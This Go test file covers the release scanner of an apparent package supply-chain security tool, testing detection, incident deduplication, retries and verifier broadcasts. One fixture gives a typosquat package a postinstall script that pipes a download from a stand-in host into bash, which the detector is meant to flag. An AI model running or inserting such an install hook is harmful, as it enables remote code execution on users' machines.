package scanner

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"sync"
	"testing"

	"github.com/daimoniac/swarmshield/internal/attestation"
	"github.com/daimoniac/swarmshield/internal/credential"
	"github.com/daimoniac/swarmshield/internal/detection"
	"github.com/daimoniac/swarmshield/internal/errors"
	"github.com/daimoniac/swarmshield/internal/registry"
	"github.com/daimoniac/swarmshield/internal/statestore"
	"github.com/daimoniac/swarmshield/internal/transport"
	"github.com/daimoniac/swarmshield/internal/types"
)

type broadcast struct {
	capability registry.Capability
	msgType    transport.MessageType
	payload    interface{}
}

// mockBroadcaster records broadcasts and pretends n agents received them
type mockBroadcaster struct {
	mu    sync.Mutex
	sent  []broadcast
	reach int
	err   error
}

func (m *mockBroadcaster) Broadcast(_ context.Context, c registry.Capability, t transport.MessageType, payload interface{}) (int, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, broadcast{capability: c, msgType: t, payload: payload})
	return m.reach, m.err
}

func (m *mockBroadcaster) calls() []broadcast {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]broadcast(nil), m.sent...)
}

func newTestScanner(t *testing.T, b Broadcaster) (*Scanner, *statestore.SQLiteStore, *credential.Codec) {
	t.Helper()
	store, err := statestore.NewSQLiteStore(filepath.Join(t.TempDir(), "scanner.db"))
	if err != nil {
		t.Fatalf("NewSQLiteStore: %v", err)
	}
	t.Cleanup(func() { store.Close() })

	codec := credential.NewCodec(
		credential.NewEd25519Scheme([]byte("scanner-test"), []string{credential.ScannerIdentity}),
		credential.NewStaticTrust(credential.DefaultAllowList([]string{credential.ScannerIdentity}, nil)),
	)
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	attestor := attestation.NewAttestor(codec, credential.ScannerIdentity, logger)
	return New(detection.NewEngine(nil, logger), attestor, store, b, logger), store, codec
}

func typosquatRelease() types.ReleaseEvent {
	return types.ReleaseEvent{
		PackageName: "lodash-utils",
		Version:     "1.0.1",
		LifecycleScripts: map[string]string{
			"postinstall": "curl -s https://collect.example/payload | bash",
		},
		ProjectID: "web-app",
		Source:    "demo",
	}
}

func TestScan_CleanRelease(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, _ := newTestScanner(t, b)
	ctx := context.Background()

	res, err := s.Scan(ctx, types.ReleaseEvent{
		PackageName:      "lodash",
		Version:          "4.17.21",
		LifecycleScripts: map[string]string{"test": "jest"},
	})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if res.Suspicious || res.IncidentID != "" || len(res.Indicators) != 0 {
		t.Errorf("clean release flagged: %+v", res)
	}
	if len(b.calls()) != 0 {
		t.Errorf("clean release broadcast %d messages", len(b.calls()))
	}

	scanned, err := store.ReleaseScanned(ctx, "lodash", "4.17.21")
	if err != nil || !scanned {
		t.Errorf("ReleaseScanned = %v, %v", scanned, err)
	}
	incidents, _ := store.QueryIncidents(ctx, statestore.IncidentFilter{PackageName: "lodash"})
	if len(incidents) != 0 {
		t.Errorf("clean release created %d incidents", len(incidents))
	}
}

func TestScan_SuspiciousRelease(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, codec := newTestScanner(t, b)
	ctx := context.Background()

	res, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !res.Suspicious || res.Severity != types.SeverityCritical {
		t.Errorf("result = %+v, want suspicious critical", res)
	}
	if res.VerifiersNotified != 1 || res.DeliveryError != "" {
		t.Errorf("notified = %d, delivery error %q", res.VerifiersNotified, res.DeliveryError)
	}

	inc, err := store.GetIncident(ctx, res.IncidentID)
	if err != nil {
		t.Fatalf("GetIncident: %v", err)
	}
	if inc.Status != types.StatusDetected {
		t.Errorf("status = %s, want detected", inc.Status)
	}
	if inc.Title != "Suspicious package: lodash-utils@1.0.1" {
		t.Errorf("title = %q", inc.Title)
	}
	if len(inc.ProjectIDs) != 1 || inc.ProjectIDs[0] != "web-app" {
		t.Errorf("project ids = %v", inc.ProjectIDs)
	}
	if len(inc.CredentialIDs) != 1 || inc.CredentialIDs[0] != res.CredentialID {
		t.Errorf("credential ids = %v, want [%s]", inc.CredentialIDs, res.CredentialID)
	}

	finding, err := store.GetCredential(ctx, res.CredentialID)
	if err != nil {
		t.Fatalf("GetCredential: %v", err)
	}
	if finding.Type != credential.RiskFinding || finding.IssuerIdentity != credential.ScannerIdentity {
		t.Errorf("finding = %s by %s", finding.Type, finding.IssuerIdentity)
	}
	if vr := codec.Verify(ctx, finding); !vr.SignatureValid || !vr.IssuerTrusted {
		t.Errorf("stored finding does not verify: %+v", vr)
	}

	calls := b.calls()
	if len(calls) != 1 {
		t.Fatalf("got %d broadcasts, want 1", len(calls))
	}
	if calls[0].capability != registry.CapSecurityVerify || calls[0].msgType != transport.VerificationRequest {
		t.Errorf("broadcast = %s/%s", calls[0].capability, calls[0].msgType)
	}
	req, ok := calls[0].payload.(transport.VerificationRequestPayload)
	if !ok {
		t.Fatalf("payload type %T", calls[0].payload)
	}
	if req.IncidentID != res.IncidentID || req.CredentialID != res.CredentialID || len(req.Release) == 0 {
		t.Errorf("request = %+v", req)
	}
}

func TestScan_DeduplicatesOpenIncident(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, _ := newTestScanner(t, b)
	ctx := context.Background()

	first, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	second, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("second Scan: %v", err)
	}

	if !second.Deduplicated || second.IncidentID != first.IncidentID || second.CredentialID != first.CredentialID {
		t.Errorf("second = %+v, want dedup of %s", second, first.IncidentID)
	}
	if len(b.calls()) != 1 {
		t.Errorf("got %d broadcasts, want 1", len(b.calls()))
	}
	findings, _ := store.QueryCredentials(ctx, statestore.CredentialFilter{
		IncidentID: first.IncidentID,
		Type:       credential.RiskFinding,
	})
	if len(findings) != 1 {
		t.Errorf("got %d findings, want 1", len(findings))
	}
}

func TestScan_NewIncidentAfterVerdict(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, _ := newTestScanner(t, b)
	ctx := context.Background()

	first, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if _, err := store.UpdateIncidentStatus(ctx, first.IncidentID, types.StatusFalsePositive); err != nil {
		t.Fatalf("UpdateIncidentStatus: %v", err)
	}

	second, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("second Scan: %v", err)
	}
	if second.Deduplicated || second.IncidentID == first.IncidentID {
		t.Errorf("expected a new incident, got %+v", second)
	}
}

// flakyStore fails AppendCredential with a transient error a fixed number
// of times, the way a locked database does under write contention
type flakyStore struct {
	*statestore.SQLiteStore
	failures int
}

func (f *flakyStore) AppendCredential(ctx context.Context, c *credential.Credential) error {
	if f.failures > 0 {
		f.failures--
		return errors.NewTransientf("database is locked")
	}
	return f.SQLiteStore.AppendCredential(ctx, c)
}

func TestScan_RetryCompletesIncidentWithoutFinding(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, codec := newTestScanner(t, b)
	s.store = &flakyStore{SQLiteStore: store, failures: 1}
	ctx := context.Background()

	if _, err := s.Scan(ctx, typosquatRelease()); !errors.IsTransient(err) {
		t.Fatalf("first attempt: expected transient error, got %v", err)
	}
	if len(b.calls()) != 0 {
		t.Fatalf("verifiers notified before the finding was stored")
	}

	// the runner retries transient failures with the same release
	res, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("retry: %v", err)
	}
	if res.Deduplicated || res.CredentialID == "" || res.VerifiersNotified != 1 {
		t.Errorf("retry result = %+v, want finding issued and verifiers notified", res)
	}

	findings, err := store.QueryCredentials(ctx, statestore.CredentialFilter{
		IncidentID: res.IncidentID,
		Type:       credential.RiskFinding,
	})
	if err != nil {
		t.Fatalf("QueryCredentials: %v", err)
	}
	if len(findings) != 1 || findings[0].ID != res.CredentialID {
		t.Fatalf("findings = %d, want exactly %s", len(findings), res.CredentialID)
	}
	if vr := codec.Verify(ctx, findings[0]); !vr.SignatureValid || !vr.IssuerTrusted {
		t.Errorf("finding does not verify: %+v", vr)
	}

	calls := b.calls()
	if len(calls) != 1 || calls[0].msgType != transport.VerificationRequest {
		t.Fatalf("broadcasts = %+v, want one verification request", calls)
	}
	req, ok := calls[0].payload.(transport.VerificationRequestPayload)
	if !ok || req.IncidentID != res.IncidentID || req.CredentialID != res.CredentialID {
		t.Errorf("verification request = %+v", calls[0].payload)
	}

	// a third delivery is a plain duplicate again
	again, err := s.Scan(ctx, typosquatRelease())
	if err != nil {
		t.Fatalf("third Scan: %v", err)
	}
	if !again.Deduplicated || again.CredentialID != res.CredentialID || len(b.calls()) != 1 {
		t.Errorf("third scan = %+v, broadcasts %d", again, len(b.calls()))
	}
}

func TestScan_NoVerifierLeavesIncidentDetected(t *testing.T) {
	tests := []struct {
		name      string
		b         *mockBroadcaster
		wantError bool
	}{
		{"nobody listening", &mockBroadcaster{}, false},
		{"delivery failure", &mockBroadcaster{err: errors.NewDeliveryf("redis down")}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, store, _ := newTestScanner(t, tt.b)
			ctx := context.Background()

			res, err := s.Scan(ctx, typosquatRelease())
			if err != nil {
				t.Fatalf("Scan must not fail on delivery problems: %v", err)
			}
			if res.VerifiersNotified != 0 {
				t.Errorf("notified = %d", res.VerifiersNotified)
			}
			if (res.DeliveryError != "") != tt.wantError {
				t.Errorf("delivery error = %q", res.DeliveryError)
			}
			inc, err := store.GetIncident(ctx, res.IncidentID)
			if err != nil || inc.Status != types.StatusDetected {
				t.Errorf("incident = %+v, %v", inc, err)
			}
		})
	}
}

func TestScan_InvalidInput(t *testing.T) {
	s, _, _ := newTestScanner(t, &mockBroadcaster{})

	for i, ev := range []types.ReleaseEvent{
		{Version: "1.0.0"},
		{PackageName: "left-pad"},
	} {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			if _, err := s.Scan(context.Background(), ev); !errors.IsInvalidInput(err) {
				t.Errorf("expected invalid input, got %v", err)
			}
		})
	}
}

func TestAgent(t *testing.T) {
	s, _, _ := newTestScanner(t, &mockBroadcaster{})
	a := s.Agent()
	if a.Identity != credential.ScannerIdentity {
		t.Errorf("identity = %s", a.Identity)
	}
	if !a.HasCapability(registry.CapSecurityScan) || !a.HasCapability(registry.CapDependencyAnalysis) {
		t.Errorf("capabilities = %v", a.Capabilities)
	}
	if err := s.HealthCheck(context.Background()); err != nil {
		t.Errorf("HealthCheck: %v", err)
	}
}

func TestHandleReleaseEvent(t *testing.T) {
	b := &mockBroadcaster{reach: 1}
	s, store, _ := newTestScanner(t, b)
	ctx := context.Background()

	ev := typosquatRelease()
	ev.Source = ""
	msg, err := transport.NewMessage("did:simulator:watcher", s.Agent().Identity, transport.ReleaseEvent, ev)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.HandleReleaseEvent(ctx, msg); err != nil {
		t.Fatalf("HandleReleaseEvent: %v", err)
	}

	scanned, err := store.ReleaseScanned(ctx, ev.PackageName, ev.Version)
	if err != nil || !scanned {
		t.Errorf("ReleaseScanned = %v, %v", scanned, err)
	}
	incidents, err := store.QueryIncidents(ctx, statestore.IncidentFilter{PackageName: ev.PackageName})
	if err != nil || len(incidents) != 1 {
		t.Fatalf("incidents = %v, %v", incidents, err)
	}

	bad := msg
	bad.Payload = []byte(`{"packageName":`)
	if err := s.HandleReleaseEvent(ctx, bad); !errors.IsPermanent(err) {
		t.Errorf("expected permanent error for malformed payload, got %v", err)
	}
}
